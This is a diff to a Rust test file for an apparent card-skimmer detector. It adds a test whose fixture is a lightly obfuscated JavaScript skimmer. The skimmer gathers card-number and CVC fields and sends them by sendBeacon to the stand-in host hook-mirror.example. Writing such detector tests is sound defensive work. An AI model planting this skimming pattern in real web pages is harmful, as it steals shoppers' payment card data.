@@ -365,6 +365,7 @@ fn the_pages_own_fields_are_on_the_stub_page() {
         name: id.into(),
         holds: holds.into(),
         caption: Some(caption.into()),
+        hooks: Vec::new(),
     };
     let fields = [
         field("f1", "cc-number", "カード番号"),
@@ -381,4 +382,45 @@ fn the_pages_own_fields_are_on_the_stub_page() {
     assert!(sent.contains("NDExMTExMTExMTExMTExMTs3Mzc"), "{sent}");
     // Without the page's fields, no label says カード番号 and nothing is sent.
     assert!(sent_to(&run(src), "mirror-cdn.example").is_empty());
+}
+
+/// The classes and `data-` attributes only the page's card fields carry are on the stub
+/// page's copies of them: a script gathering `[data-mask]` (here with a name built at run
+/// time) reads the card fields, not an empty list.
+#[test]
+fn the_pages_own_field_hooks_are_on_the_stub_page() {
+    use skimscan::js::StubField;
+    let src = r#"
+      var attr = ['data', 'mask'].join('-'), st = {};
+      document.querySelectorAll('[' + attr + ']').forEach(function (el) {
+        st[el.getAttribute(attr)] = el.value;
+      });
+      document.addEventListener('change', function () {
+        document.querySelectorAll('.js-pay-input').forEach(function (el) { st[el.id] = el.value; });
+        navigator.sendBeacon('https://hook-mirror.example/c', JSON.stringify(st));
+      });
+    "#;
+    let field = |id: &str, holds: &str, hooks: &[&str]| StubField {
+        id: Some(id.into()),
+        name: id.into(),
+        holds: holds.into(),
+        caption: None,
+        hooks: hooks.iter().map(|h| h.to_string()).collect(),
+    };
+    let fields = [
+        field(
+            "pf1",
+            "cc-number",
+            &["[data-mask=card]", "[data-mask]", ".js-pay-input"],
+        ),
+        field("pf2", "cc-csc", &["[data-mask=cvc]", "[data-mask]"]),
+    ];
+    let at = StubPage {
+        fields: &fields,
+        ..StubPage::default()
+    };
+    let obs = observe(src, limits(false), at).unwrap();
+    assert_card_sent(&obs, "hook-mirror.example");
+    let sent = sent_to(&obs, "hook-mirror.example").join(" ");
+    assert!(sent.contains("737"), "{sent}");
 }
